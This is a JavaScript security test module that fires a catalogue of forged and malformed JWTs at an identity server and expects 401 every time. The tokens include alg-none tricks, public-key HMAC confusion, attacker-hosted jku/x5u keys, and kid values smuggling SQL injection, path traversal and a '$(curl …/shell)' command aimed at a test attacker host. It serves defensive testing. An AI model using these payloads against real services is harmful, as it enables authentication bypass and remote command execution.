// The attack table: forged, borrowed, bent and misplaced tokens against the running server. Each is
// answered with 401, a problem document and a challenge, and never with 5xx. The genuine token is in
// the gateway's cache all the while. Not for tokens that our own key signed wrongly: nobody out here
// has that key, and `services/identity/src/access_token.rs` tries those.

import { createPublicKey, verify } from 'node:crypto';

import {
  CompactEncrypt,
  EncryptJWT,
  FlattenedSign,
  GeneralSign,
  SignJWT,
  UnsecuredJWT,
  importJWK,
  jwtVerify,
} from 'jose';

import { keySet } from './accepted.mjs';
import { answered, check, expect, invalidToken, same } from './checks.mjs';
import {
  Attacker,
  ORDER,
  OTHER_ALGORITHMS,
  asDer,
  asSecrets,
  encode,
  hmac,
  keyPair,
  otherS,
  signWith,
  signatureOf,
  takeApart,
} from './forgery.mjs';
import { misuse } from './misuse.mjs';

/** The longest token that the server looks at. */
const LONGEST = 4096;
const HMACS = ['HS256', 'HS384', 'HS512'];

/** Runs the checks. */
export async function attacks({ door, verifier, signedIn }) {
  const genuine = takeApart(await withBothSigns(door, signedIn));
  const document = await keySet(door);
  const jwk = document.json.keys.find((key) => key.kid === genuine.header.kid);
  const attacker = await Attacker.start();
  const scene = { door, verifier, genuine, attacker, jwk, document: document.text };

  await wellMade(scene);
  const tables = [unsecured, keyedWithThePublicKey, offeredKeys, keyNames, otherAlgorithms, headers, claims];
  tables.push(tampered, signatures, spelling, otherForms, sizes);
  for (const table of tables) {
    for (const [name, token] of Object.entries(await table(scene))) {
      await check(`attack: ${name}`, async () => invalidToken(await door.me(token)));
    }
  }
  await check('after the attacks: nobody asked the attacker\'s server for a key', async () => {
    await new Promise((resolve) => setTimeout(resolve, 300));
    same('what was asked for', attacker.asked.join(' '), '');
  });
  attacker.stop();
  await misuse(scene);
}

/** Returns a token whose signature holds `-` and `_`, so that the other alphabet spells it differently. */
async function withBothSigns(door, signedIn) {
  let { accessToken } = signedIn;
  while (!/^(?=.*-)(?=.*_)/.test(accessToken.split('.')[2])) accessToken = (await door.signIn()).accessToken;
  answered(await door.me(accessToken), 200);
  return accessToken;
}

/** Shows that what is refused below is refused for its key or its form, and not because it is botched. */
async function wellMade({ verifier, genuine: { token, header, claims, parts }, attacker, jwk, document }) {
  await check('forgery: jose verifies the attacker\'s tokens with the attacker\'s key', () =>
    jwtVerify(attacker.sign(header, claims), attacker.publicKey, verifier.rules));
  await check('forgery: jose verifies those by HMAC with their secrets', async () => {
    for (const secret of Object.values(await asSecrets(jwk, document)).filter((secret) => secret.length > 0)) {
      for (const algorithm of HMACS) {
        const forged = hmac(algorithm, header, claims, secret);
        await jwtVerify(forged, Buffer.from(secret), { ...verifier.rules, algorithms: [algorithm] });
      }
    }
  });
  await check('forgery: jose verifies those with other algorithms', async () => {
    // jose has no ES256K.
    for (const alg of OTHER_ALGORITHMS.filter((name) => name !== 'ES256K')) {
      const { privateKey, publicKey } = keyPair(alg);
      const forged = signWith(alg, { ...header, alg }, claims, privateKey);
      await jwtVerify(forged, publicKey, { ...verifier.rules, algorithms: [alg] });
    }
  });
  await check('forgery: jose verifies the twin signature (r, n - s) with our key', () =>
    verifier.verify(`${parts.header}.${parts.payload}.${otherS(parts.signature)}`));
  await check('forgery: OpenSSL verifies the ASN.1 form of our signature', () => {
    const key = createPublicKey({ key: jwk, format: 'jwk' });
    const [message] = /^[^.]+\.[^.]+/.exec(token);
    const holds = verify('sha256', Buffer.from(message), key, Buffer.from(asDer(parts.signature), 'base64url'));
    expect(holds, 'it does not');
  });
}

function unsecured({ genuine: { header, claims, parts } }) {
  const none = (alg) => encode({ ...header, alg });
  return {
    'alg none, as jose makes it': new UnsecuredJWT(claims).encode(),
    'alg none under our kid and type': `${none('none')}.${parts.payload}.`,
    'alg none without the last dot': `${none('none')}.${parts.payload}`,
    'alg none with our signature': `${none('none')}.${parts.payload}.${parts.signature}`,
    'alg None': `${none('None')}.${parts.payload}.`,
    'alg NONE': `${none('NONE')}.${parts.payload}.`,
    'alg nOnE with our signature': `${none('nOnE')}.${parts.payload}.${parts.signature}`,
    'alg empty': `${none('')}.${parts.payload}.`,
    'alg null': `${none(null)}.${parts.payload}.`,
    'alg missing': `${none(undefined)}.${parts.payload}.${parts.signature}`,
    'alg a list': `${none(['none', 'ES256'])}.${parts.payload}.${parts.signature}`,
    'alg a number': `${none(256)}.${parts.payload}.${parts.signature}`,
  };
}

async function keyedWithThePublicKey({ genuine: { header, claims }, jwk, document }) {
  const table = {};
  for (const [form, secret] of Object.entries(await asSecrets(jwk, document))) {
    for (const algorithm of HMACS) {
      table[`${algorithm} keyed with ${form}`] = hmac(algorithm, header, claims, secret);
    }
  }
  return table;
}

async function offeredKeys({ genuine: { header, claims }, attacker }) {
  const forge = (changes) => attacker.sign({ ...header, ...changes }, claims);
  const own = { kid: attacker.jwk.kid };
  const chain = [attacker.certificate.toString('base64')];
  const { kid, ...nameless } = attacker.jwk;
  return {
    'ES256 by the attacker under our kid': await new SignJWT(claims)
      .setProtectedHeader(header)
      .sign(await importJWK(attacker.privateKey.export({ format: 'jwk' }), 'ES256')),
    'ES256 by the attacker under a kid of their own': forge(own),
    'jwk: the attacker\'s key under our kid': forge({ jwk: attacker.jwk }),
    'jwk: the attacker\'s key with our kid inside': forge({ jwk: { ...attacker.jwk, kid: header.kid } }),
    'jwk: the attacker\'s key under its own kid': forge({ ...own, jwk: attacker.jwk }),
    'jwk: the attacker\'s key and no kid at all': forge({ kid: undefined, jwk: nameless }),
    'jku: the attacker\'s server under our kid': forge({ jku: `${attacker.address}/jwks.json` }),
    'jku: the attacker\'s server under its own kid': forge({ ...own, jku: `${attacker.address}/jwks.json` }),
    'jku: the attacker\'s server and no kid': forge({ kid: undefined, jku: `${attacker.address}/jwks.json` }),
    'x5u: the attacker\'s server under our kid': forge({ x5u: `${attacker.address}/chain.pem` }),
    'x5u: the attacker\'s server under its own kid': forge({ ...own, x5u: `${attacker.address}/chain.pem` }),
    'x5c: the attacker\'s certificate under our kid': forge({ x5c: chain }),
    'x5c: the attacker\'s certificate under its own kid': forge({ ...own, x5c: chain }),
    'x5c: the attacker\'s certificate and no kid': forge({ kid: undefined, x5c: chain }),
    'iss: the attacker\'s server as issuer': attacker.sign({ ...header, ...own }, { ...claims, iss: attacker.address }),
  };
}

function keyNames({ genuine: { header, claims }, attacker }) {
  const { kid } = header;
  const small = (letter) => letter === letter.toLowerCase();
  const swapped = [...kid].map((letter) => (small(letter) ? letter.toUpperCase() : letter.toLowerCase()));
  const names = {
    'a path upwards': '../../../../../../dev/null',
    'a file URL': 'file:///dev/null',
    'an address of the attacker\'s server': `${attacker.address}/key.pem`,
    'SQL that is always true': '\' OR \'1\'=\'1',
    'SQL that brings its own key': '\' UNION SELECT \'c2VjcmV0\' -- ',
    'a shell command': `$(curl ${attacker.address}/shell)`,
    'a NUL byte behind ours': `${kid}\0`,
    'a newline behind ours': `${kid}\n`,
    'a space behind ours': `${kid} `,
    'padding behind ours': `${kid}=`,
    'ours without its last letter': kid.slice(0, -1),
    'ours in the other case': swapped.join(''),
    'ours twice': kid + kid,
    'very long': 'k'.repeat(2_500),
    'empty': '',
    'missing': undefined,
    'null': null,
    'a number': 0,
    'a list with ours': [kid],
    'an object': { kid },
    'true': true,
    'a member that every object has': '__proto__',
  };
  const table = {};
  for (const [name, value] of Object.entries(names)) {
    table[`kid: ${name}`] = attacker.sign({ ...header, kid: value }, claims);
  }
  table['kid: a path to an empty file, HS256 keyed with nothing'] =
    hmac('HS256', { ...header, kid: '../../../../../../dev/null' }, claims, '');
  table['kid: SQL that brings its own key, HS256 keyed with it'] =
    hmac('HS256', { ...header, kid: '\' UNION SELECT \'c2VjcmV0\' -- ' }, claims, 'secret');
  return table;
}

function otherAlgorithms({ genuine: { header, claims } }) {
  const table = {};
  for (const alg of OTHER_ALGORITHMS) table[`alg ${alg} under our kid`] = signWith(alg, { ...header, alg }, claims);
  table['alg EdDSA under its other name Ed25519'] = signWith('EdDSA', { ...header, alg: 'Ed25519' }, claims);
  table['alg es256 in small letters'] = signWith('ES256', { ...header, alg: 'es256' }, claims);
  table['alg ECDH-ES, an algorithm for encryption'] = signWith('ES256', { ...header, alg: 'ECDH-ES' }, claims);
  return table;
}

function headers({ genuine: { header, claims, parts }, attacker }) {
  const forge = (changes) => attacker.sign({ ...header, ...changes }, claims);
  const raw = (text) => attacker.sign(text, claims);
  const { kid } = header;
  const deep = `${'['.repeat(1000)}${']'.repeat(1000)}`;
  return {
    'typ JWT': forge({ typ: 'JWT' }),
    'typ id+jwt': forge({ typ: 'id+jwt' }),
    'typ missing': forge({ typ: undefined }),
    'typ a list': forge({ typ: ['at+jwt'] }),
    'crit exp': forge({ crit: ['exp'] }),
    'crit something unknown': forge({ crit: ['portico'], portico: true }),
    'crit empty': forge({ crit: [] }),
    'crit a text': forge({ crit: 'exp' }),
    'b64 false, marked as critical': attacker.sign({ ...header, b64: false, crit: ['b64'] }, claims),
    'b64 false, not marked': forge({ b64: false }),
    'b64 false with the payload as it is': `${encode({ ...header, b64: false, crit: ['b64'] })}.{}.${parts.signature}`,
    'zip DEF': forge({ zip: 'DEF' }),
    'cty JWT': forge({ cty: 'JWT' }),
    'header: alg twice, ours first': raw(`{"alg":"ES256","alg":"none","typ":"at+jwt","kid":"${kid}"}`),
    'header: alg twice, ours last': raw(`{"alg":"none","alg":"ES256","typ":"at+jwt","kid":"${kid}"}`),
    'header: kid twice': raw(`{"alg":"ES256","typ":"at+jwt","kid":"${attacker.jwk.kid}","kid":"${kid}"}`),
    'header: nested a thousand times': raw(`{"alg":"ES256","typ":"at+jwt","kid":"${kid}","x":${deep}}`),
    'header: a list': raw('["ES256"]'),
    'header: a text': raw('"ES256"'),
    'header: null': raw('null'),
    'header: not JSON': raw('alg=ES256'),
    'header: not UTF-8': attacker.sign(Buffer.from([0xff, 0xfe, 0x7b]), claims),
    'header: begins with a byte order mark': raw(`\ufeff${JSON.stringify(header)}`),
    'header: empty': `.${parts.payload}.${parts.signature}`,
  };
}

function claims({ genuine: { header, claims }, attacker }) {
  const forge = (changes) => attacker.sign(header, { ...claims, ...changes });
  const raw = (text) => attacker.sign(header, text);
  const now = Math.floor(Date.now() / 1000);
  const text = JSON.stringify(claims);
  return {
    'claims: expired': forge({ iat: now - 1200, exp: now - 600 }),
    'claims: issued in the future': forge({ iat: now + 3600, exp: now + 4200 }),
    'claims: not before later': forge({ nbf: now + 3600 }),
    'claims: no exp': forge({ exp: undefined }),
    'claims: exp a text': forge({ exp: String(now + 600) }),
    'claims: exp beyond all numbers': raw(text.replace(/"exp":\d+/, '"exp":1e400')),
    'claims: exp below zero': forge({ exp: -1 }),
    'claims: another issuer': forge({ iss: 'https://attacker.example' }),
    'claims: our issuer in a list': forge({ iss: [claims.iss] }),
    'claims: another audience': forge({ aud: 'another' }),
    'claims: our audience in a list': forge({ aud: ['another', claims.aud] }),
    'claims: no audience': forge({ aud: undefined }),
    'claims: sub twice': raw(text.replace('{', `{"sub":"usr_${'0'.repeat(26)}",`)),
    'claims: role twice': raw(text.replace('}', ',"role":"superadmin"}')),
    'claims: organizationId twice': raw(text.replace('}', `,"organizationId":"ten_${'0'.repeat(26)}"}`)),
    'claims: nested a thousand times': raw(text.replace('}', `,"x":${'['.repeat(1000)}${']'.repeat(1000)}}`)),
    'claims: a list': raw('[]'),
    'claims: null': raw('null'),
    'claims: not JSON': raw('sub=admin'),
    'claims: not UTF-8': raw(Buffer.from([0xff, 0xfe, 0x7b])),
    'claims: empty': raw(''),
  };
}

function tampered({ genuine: { header, claims, parts } }) {
  const payload = (changes) => `${parts.header}.${encode({ ...claims, ...changes })}.${parts.signature}`;
  const head = (changes) => `${encode({ ...header, ...changes })}.${parts.payload}.${parts.signature}`;
  const spaced = `${JSON.stringify(claims)} `;
  const another = (id) => id.slice(0, -1) + (id.endsWith('0') ? '1' : '0');
  return {
    'our signature, role superadmin': payload({ role: 'superadmin' }),
    'our signature, another organizationId': payload({ organizationId: another(claims.organizationId) }),
    'our signature, another sub': payload({ sub: another(claims.sub) }),
    'our signature, another sid': payload({ sid: another(claims.sid) }),
    'our signature, exp a year later': payload({ exp: claims.exp + 31_536_000 }),
    'our signature, one more claim': payload({ admin: true }),
    'our signature, the same claims with a space': `${parts.header}.${encode(spaced)}.${parts.signature}`,
    'our signature, another header typ': head({ typ: 'JWT' }),
    'our signature, another header alg': head({ alg: 'ES384' }),
    'our signature, no header kid': head({ kid: undefined }),
    'our signature, one more header member': head({ jwk: {} }),
  };
}

async function signatures({ door, genuine: { parts } }) {
  const { header, payload, signature } = parts;
  const message = `${header}.${payload}`;
  const bytes = Buffer.from(signature, 'base64url');
  const joined = (...pieces) => encode(Buffer.concat(pieces.map((piece) => Buffer.from(piece))));
  const other = (await door.signIn()).accessToken.split('.')[2];
  const last = signature.at(-1);
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  // 64 bytes fill 85 letters and a third of the last one; the rest of it has to be zero.
  const loose = signature.slice(0, -1) + alphabet[alphabet.indexOf(last) | 1];
  return {
    'signature: none': `${message}.`,
    'signature: none, nor its dot': message,
    'signature: as ASN.1': `${message}.${asDer(signature)}`,
    'signature: r and s are zero': `${message}.${signatureOf(0n, 0n)}`,
    'signature: r is zero': `${message}.${signatureOf(0n, 1n)}`,
    'signature: r and s are the order': `${message}.${signatureOf(ORDER, ORDER)}`,
    'signature: s is beyond the order': `${message}.${joined(bytes.subarray(0, 32), Buffer.alloc(32, 0xff))}`,
    'signature: r and s exchanged': `${message}.${joined(bytes.subarray(32), bytes.subarray(0, 32))}`,
    'signature: of another token of ours': `${message}.${other}`,
    'signature: a byte short': `${message}.${encode(bytes.subarray(0, 63))}`,
    'signature: a byte long': `${message}.${joined(bytes, [0])}`,
    'signature: one bit flipped': `${message}.${joined([bytes[0] ^ 1], bytes.subarray(1))}`,
    'signature: a loose bit in the last letter': `${message}.${loose}`,
  };
}

function spelling({ genuine: { token, parts: { header, payload, signature } } }) {
  const standard = (text) => text.replaceAll('-', '+').replaceAll('_', '/');
  return {
    'spelling: padding behind the signature': `${token}==`,
    'spelling: padding behind the payload': `${header}.${payload}=.${signature}`,
    'spelling: padding behind the header': `${header}=.${payload}.${signature}`,
    'spelling: the signature in the other base64 alphabet': `${header}.${payload}.${standard(signature)}`,
    'spelling: a space inside': `${header}.${payload} .${signature}`,
    'spelling: a tab inside': `${header}.\t${payload}.${signature}`,
    'spelling: a newline, percent-encoded': `${header}.%0A${payload}.${signature}`,
    'spelling: a dot in front': `.${token}`,
    'spelling: a dot behind': `${token}.`,
    'spelling: in quotes': `"${token}"`,
    'spelling: in angle brackets': `<${token}>`,
    'spelling: a letter outside ASCII': `${header}.${payload}é.${signature}`,
    'spelling: Bearer twice': `Bearer ${token}`,
    'spelling: twice, with a comma': `${token}, ${token}`,
    'spelling: twice, with a comma and Bearer': `${token}, Bearer ${token}`,
    'spelling: with a parameter behind': `${token};role=superadmin`,
    'spelling: in capitals': token.toUpperCase(),
  };
}

async function otherForms({ genuine: { token, header, claims, parts }, attacker, jwk }) {
  const { alg, use, ...bare } = jwk;
  const ours = await importJWK(bare, 'ECDH-ES');
  const theirs = await importJWK(attacker.privateKey.export({ format: 'jwk' }), 'ES256');
  const sealed = { alg: 'ECDH-ES', enc: 'A256GCM', kid: header.kid };
  const payload = Buffer.from(JSON.stringify(claims));
  const flattened = { payload: parts.payload, protected: parts.header, signature: parts.signature };
  return {
    'form: JWE, sealed to our key': await new EncryptJWT(claims)
      .setProtectedHeader({ ...sealed, typ: 'at+jwt' })
      .encrypt(ours),
    'form: JWE with our genuine token inside': await new CompactEncrypt(Buffer.from(token))
      .setProtectedHeader({ ...sealed, cty: 'JWT' })
      .encrypt(ours),
    'form: JWE with five empty parts': '....',
    'form: JWS by the attacker with our genuine token inside': attacker.sign({ ...header, cty: 'JWT' }, token),
    'form: JWS as flattened JSON, genuine': JSON.stringify(flattened),
    'form: JWS as general JSON, genuine': JSON.stringify({
      payload: parts.payload,
      signatures: [{ protected: parts.header, signature: parts.signature }],
    }),
    'form: JWS as flattened JSON by the attacker': JSON.stringify(
      await new FlattenedSign(payload).setProtectedHeader(header).sign(theirs)),
    'form: JWS as general JSON by the attacker': JSON.stringify(
      await new GeneralSign(payload).addSignature(theirs).setProtectedHeader(header).sign()),
    'form: flattened JSON, base64url-encoded': encode(flattened),
    'form: four parts': `${token}.${parts.signature}`,
    'form: one part': parts.payload,
    'form: two dots': '..',
    'form: a thousand dots': '.'.repeat(1000),
  };
}

function sizes({ genuine: { header, claims }, attacker }) {
  const short = attacker.sign(header, { ...claims, pad: '' }).length;
  // Base64 turns three bytes into four letters, so the pad lands a letter or two beside the wish.
  const pad = (length) => 'p'.repeat(Math.floor(((length - short) * 3) / 4));
  const padded = (length) => attacker.sign(header, { ...claims, pad: pad(length) });
  return {
    'size: just what is looked at': padded(LONGEST - 4),
    'size: a letter more than is looked at': 'a'.repeat(LONGEST + 1),
    'size: a token just too long': padded(LONGEST + 8),
  };
}
